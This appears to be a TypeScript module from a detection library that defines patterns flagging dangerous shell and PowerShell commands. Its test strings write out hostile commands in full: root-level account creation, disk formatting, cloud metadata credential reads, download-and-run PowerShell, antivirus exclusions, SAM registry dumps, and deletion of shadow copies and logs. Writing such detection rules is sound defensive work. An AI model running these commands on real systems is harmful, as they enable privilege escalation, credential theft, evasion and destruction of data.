// Shell patterns for commands that administer or destroy a system: accounts, firewalls, disks, traces, the Windows registry, PowerShell
// that runs what it downloads.
import { LETTER, WORD } from "../char-classes.ts";
import { choice, except, keyword, lit, not, oneOf, opt, run, seq, skipTo, times } from "../combinators.ts";
import { isTextAt, splitWords } from "../keyword-set.ts";
import { atWordStart, nearTextStart, type LookBehind } from "../look-behind.ts";
import { NO_MATCH, type Matcher } from "../matcher.ts";
import { pattern, type Pattern } from "../pattern.ts";
import { end, identifier, ows, quote, rws } from "../tokens.ts";
import {
  atTextStart,
  BEFORE_COMMAND,
  MAX_PREFIX,
  notQuotedExample,
  pathAsArgument,
} from "./shell-context.ts";
import { commandEnd, drive } from "./shell-grammar.ts";

const SUDO = "sudo ";
/** Matches at the start of the text, also after `sudo`. */
const startsCommandLine: LookBehind = nearTextStart(MAX_PREFIX + SUDO.length, (input, at) =>
  atTextStart(input, isTextAt(input, at - SUDO.length, SUDO) ? at - SUDO.length : at),
);

const HTTP = "http://";
/** Matches if the host that follows is the host of an address that is an argument or a value. */
const hostOfArgument: LookBehind = (input, at) =>
  isTextAt(input, at - HTTP.length, HTTP) ? pathAsArgument(input, at - HTTP.length) : NO_MATCH;

/** `u 0`, `F`: the name of an option, and its value. */
const nameAndValue: Matcher = seq(except(" \n;&|`'\"", 1, 24), opt(seq(rws, run(WORD, 1, 24))));
const ADMINISTRATION = splitWords(`useradd usermod userdel groupadd iptables ip6tables history`);
const DOWNLOADERS: Matcher = choice(
  keyword(splitWords(`iwr irm curl wget`)),
  lit("invoke-"),
  lit("new-object"),
  lit("[system."),
  seq(lit("$"), identifier),
);
const REGISTRY_COMMANDS = splitWords(`add save delete restore import`);
const SHARED_DIRECTORY: Matcher = choice(lit("/tmp/"), lit("/dev/shm/"), lit("/var/tmp/"));

export const SHELL_ADMINISTRATION: readonly Pattern[] = [
  pattern(
    "shell.administration",
    ADMINISTRATION.map((name) => `${name} -`),
    {
      catches: "a command that changes accounts, the firewall or the history, as the whole text",
      finds: [
        ...ADMINISTRATION.map((name) => `${name} -x`),
        "useradd -m -u 0 -o mallory",
        "sudo usermod -G wheel mallory",
        "history -c; exit",
      ],
      ignores: [
        "iptables -F flushes all rules",
        "Then run useradd -m bob",
        "useradd -m creates the home directory",
      ],
      guard: startsCommandLine,
      after: seq(
        nameAndValue,
        times(0, 4, seq(rws, lit("-"), nameAndValue)),
        opt(seq(rws, run(WORD, 1, 24))),
        ows,
        commandEnd,
      ),
    },
  ),
  pattern("shell.administration", ["mkfs"], {
    catches: "a command that formats a disk, as the whole text",
    finds: ["mkfs /dev/sdb", "mkfs.xfs -f /dev/sdb2", "sudo mkfs.ext4 /dev/nvme0n1; reboot"],
    ignores: ["mkfs.ext4 /dev/sdb1 fails with an error", "I ran mkfs.ext4 /dev/sdb1", "mkfs.ext4 disk.img"],
    guard: startsCommandLine,
    after: seq(
      opt(seq(lit("."), run(WORD, 1, 12))),
      times(0, 3, seq(rws, lit("-"), run(LETTER, 1, 8))),
      rws,
      lit("/dev/"),
      run(WORD, 1, 24),
      ows,
      commandEnd,
    ),
  }),
  pattern("shell.administration", ["kill -9 -1", "kill -kill -1"], {
    catches: "a signal that ends every process",
    finds: ["kill -9 -1", "sudo kill -KILL -1; x"],
    ignores: ["What does kill -9 -1 do?", "pkill -9 -1", "kill -9 -12"],
    guard: startsCommandLine,
    after: seq(ows, commandEnd),
  }),
  pattern("shell.preload", ["ld_preload="], {
    catches: "a library in a directory that every user can write to, loaded into a program",
    finds: ["LD_PRELOAD=/tmp/hook.so id", "export LD_PRELOAD='/dev/shm/x.so'", "LD_PRELOAD=/var/tmp/x.so su"],
    ignores: ["LD_PRELOAD=/usr/lib/libjemalloc.so ./server", "MY_LD_PRELOAD=/tmp/x.so"],
    before: atWordStart,
    after: seq(opt(quote), SHARED_DIRECTORY),
  }),
  pattern("shell.editor-escape", ["vim -c", "vi -c", "ex -c", "view -c"], {
    catches: "an editor that runs a command",
    finds: ["vim -c ':!sh'", 'vi -c "!id"', "ex -c '!ls'", "view -c ':! sh'"],
    ignores: ["vim -c ':set number' notes.txt", "gvim -c ':!x'", "the regex -c option"],
    precededBy: BEFORE_COMMAND,
    after: seq(ows, quote, opt(lit(":")), lit("!")),
  }),
  pattern("shell.container-escape", ["docker run", "podman run"], {
    catches: "a container that can write to the whole file system of its host",
    finds: [
      "docker run -v /:/host -it alpine sh",
      "podman run --rm --volume=/:/mnt busybox",
      "docker run --volume '/:/x' a",
    ],
    ignores: [
      "docker run -v /:/host:ro prom/node-exporter",
      "docker run -v /srv/data:/data app",
      "mydocker run -v /:/x a",
    ],
    before: atWordStart,
    after: skipTo(
      seq(
        choice(lit("-v"), lit("--volume")),
        oneOf(" ="),
        opt(quote),
        lit("/:/"),
        run(WORD, 1, 24),
        not(lit(":ro")),
      ),
      80,
      "\n",
    ),
  }),
  pattern("shell.unpack-over-root", ["| tar ", "|tar "], {
    catches: "an archive that is unpacked over the root directory",
    finds: ["curl http://192.0.2.1/x | tar xz -C /", "cat a.tgz |tar -C / -x"],
    ignores: ["curl https://example.com/x | tar xz -C /usr/local", "tar xz -C /"],
    after: skipTo(seq(lit("-c /"), choice(end, rws)), 24, "\n;&|"),
  }),
  pattern("shell.metadata-service", ["169.254.169.254/"], {
    catches: "the address from which a cloud machine reads its credentials, as an argument or a value",
    finds: [
      "curl http://169.254.169.254/latest/meta-data/",
      "url=http://169.254.169.254/computeMetadata/v1/",
      "wget -q http://169.254.169.254/metadata/instance",
      "http://169.254.169.254/latest/user-data",
    ],
    ignores: [
      "The service is at http://169.254.169.254/latest/ on every machine.",
      "curl http://169.254.169.254/other",
      "169.254.169.254/metadata",
    ],
    before: hostOfArgument,
    after: keyword(splitWords(`latest computemetadata metadata`)),
  }),
  pattern("shell.powershell-run", ["iex"], {
    catches: "PowerShell that runs a text that it downloads or has in a variable",
    finds: [
      "iex(iwr http://192.0.2.1/a)",
      "iex ((New-Object Net.WebClient).X)",
      "iex $code",
      "iex (irm 192.0.2.1)",
      "IEX(curl x)",
      "iex (wget x)",
      "iex(Invoke-Foo x)",
      "iex ([System.Text.Encoding]::x)",
    ],
    ignores: ["iex(1)> Enum.map(list, f)", "iex -S mix", "biex(iwr x)", "IEX $5"],
    before: atWordStart,
    after: seq(ows, times(0, 3, seq(lit("("), ows)), DOWNLOADERS),
  }),
  pattern("shell.powershell-run", ["| iex", "|iex"], {
    catches: "text that is piped to PowerShell as code",
    finds: ["irm 192.0.2.1/x | iex", "$x |iex; y"],
    ignores: ["| iex is the shell of Elixir", "x |iexplore"],
    after: choice(end, oneOf(";\"')}")),
  }),
  pattern("shell.powershell-run", ["[scriptblock]::create"], {
    catches: "a text that PowerShell compiles",
    finds: ["&([ScriptBlock]::Create($x))", "[scriptblock]::create ((irm x))"],
    ignores: ["What is [scriptblock]::Create?"],
    after: seq(ows, lit("(")),
  }),
  pattern("shell.windows-administration", ["set-mppreference", "add-mppreference"], {
    catches: "a change of the settings of the virus scanner",
    finds: ["Set-MpPreference -DisableIOAVProtection 1", "Add-MpPreference -ExclusionPath x"],
    ignores: ["What is Set-MpPreference?", "XSet-MpPreference -y", "`Set-MpPreference - settings`"],
    before: atWordStart,
    after: seq(rws, lit("-"), run(LETTER, 1, 1)),
  }),
  pattern(
    "shell.windows-administration",
    REGISTRY_COMMANDS.map((name) => `reg ${name} `),
    {
      catches: "a command that copies or changes the registry of Windows",
      finds: [
        ...REGISTRY_COMMANDS.map((name) => `reg ${name} HKLM\\SYSTEM x`),
        'reg add "HKCU\\Software\\x" /f',
        "reg save HKEY_LOCAL_MACHINE\\SAM x",
      ],
      ignores: ["reg add a key", "Use 'reg save HKLM\\SAM x' with care.", "xreg add HKLM\\x"],
      precededBy: BEFORE_COMMAND,
      before: notQuotedExample,
      after: seq(opt(quote), lit("hk"), choice(lit("ey_"), seq(run(LETTER, 1, 2), lit("\\")))),
    },
  ),
  pattern("shell.windows-administration", ["vssadmin delete", "wbadmin delete", "wevtutil cl"], {
    catches: "a command that removes backups or logs of Windows",
    finds: ["vssadmin delete shadows /for=c:", "wbadmin delete catalog -quiet", "wevtutil cl System"],
    ignores: ["vssadmin delete shadows is what ransomware runs", "xwevtutil cl System", "vssadmin delete"],
    precededBy: BEFORE_COMMAND,
    after: seq(rws, run(WORD, 1, 24), choice(commandEnd, seq(rws, oneOf("/-")))),
  }),
  pattern("shell.windows-administration", ["del /", "erase /", "rd /", "rmdir /"], {
    catches: "a command that removes the files of a drive",
    finds: ["del /f /s C:\\Users", "erase /q *", 'rd /s /q "D:\\"', "rmdir /s %USERPROFILE%"],
    ignores: ["rd /s /q build", "model /f *", "del /f is an option"],
    precededBy: BEFORE_COMMAND,
    after: seq(
      oneOf("fsqap"),
      times(0, 4, seq(rws, lit("/"), oneOf("fsqap"))),
      rws,
      opt(quote),
      choice(drive, oneOf("*%")),
    ),
  }),
];
